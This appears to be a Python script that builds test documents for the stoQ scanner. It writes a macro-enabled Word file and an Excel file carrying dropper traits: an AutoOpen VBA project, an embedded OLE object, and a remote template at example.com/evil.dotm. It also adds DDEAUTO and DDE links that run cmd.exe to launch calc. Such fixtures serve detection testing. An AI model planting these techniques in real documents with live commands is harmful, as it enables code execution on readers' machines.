# risky.docm and dde.xlsx: documents of python-docx and XlsxWriter with what droppers add to them.
#   /usr/bin/python3 make_risky.py vbaProject.bin clam.ole.doc FOLDER
# vbaProject.bin is LibreOffice's (out of autoopen.xlsm, with AutoOpen, Open ... For Output and Shell).
import io, re, sys, zipfile
import docx, xlsxwriter

vba, ole, out = open(sys.argv[1], "rb").read(), open(sys.argv[2], "rb").read(), sys.argv[3]
DATE = (2020, 1, 1, 0, 0, 0)
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

def rewrite(source, target, change):
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        parts = {info.filename: old.read(info) for info in old.infolist()}
        change(parts)
        for name, data in parts.items():
            new.writestr(zipfile.ZipInfo(name, DATE), data, zipfile.ZIP_DEFLATED)

def docm(parts):
    del parts["docProps/thumbnail.jpeg"]  # 40 KB of picture
    parts["_rels/.rels"] = re.sub(rb"<Relationship [^>]*thumbnail[^>]*>", b"", parts["_rels/.rels"])
    types = parts["[Content_Types].xml"].decode()
    types = types.replace("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml")
    types = types.replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/><Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    parts["[Content_Types].xml"] = types.encode()
    rels = parts["word/_rels/document.xml.rels"].decode().replace("</Relationships>",
        '<Relationship Id="rId90" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
        '<Relationship Id="rId91" Type="' + REL + 'oleObject" Target="embeddings/oleObject1.bin"/>'
        '<Relationship Id="rId92" Type="' + REL + 'hyperlink" Target="https://example.com/click?a=1&amp;b=2" TargetMode="External"/>'
        '<Relationship Id="rId93" Type="' + REL + 'oleObject" Target="mhtml:http://example.com/o.html!x-usc:http://example.com/o.html" TargetMode="External"/>'
        '</Relationships>')
    parts["word/_rels/document.xml.rels"] = rels.encode()
    parts["word/_rels/settings.xml.rels"] = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="' + REL + 'attachedTemplate" Target="http://example.com/evil.dotm" TargetMode="External"/></Relationships>').encode()
    field = lambda kind: '<w:r><w:fldChar w:fldCharType="%s"/></w:r>' % kind
    text = lambda value: '<w:r><w:instrText xml:space="preserve">%s</w:instrText></w:r>' % value
    body = ('<w:p>' + field("begin") + text(" DDE") + text("AUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k ") + field("begin")
        + text(" QUOTE 99 97 108 99 ") + field("end") + text("&quot; ") + field("separate") + '<w:r><w:t>shown</w:t></w:r>' + field("end")
        + '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://example.com/p.png&quot; \\d "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:body>", b"<w:body>" + body.encode())
    parts["word/vbaProject.bin"] = vba
    parts["word/embeddings/oleObject1.bin"] = ole

base = io.BytesIO()
document = docx.Document()
document.core_properties.title, document.core_properties.author = "Risky & odd", "stoQ tests"
document.save(base)
rewrite(base, out + "/risky.docm", docm)

book = io.BytesIO()
workbook = xlsxwriter.Workbook(book)
workbook.add_worksheet().write("A1", 1)
workbook.close()
def xlsx(parts):
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>')
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(b"</Relationships>", ('<Relationship Id="rId90" Type="' + REL + 'externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>').encode())
    parts["xl/externalLinks/externalLink1.xml"] = b'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
rewrite(book, out + "/dde.xlsx", xlsx)
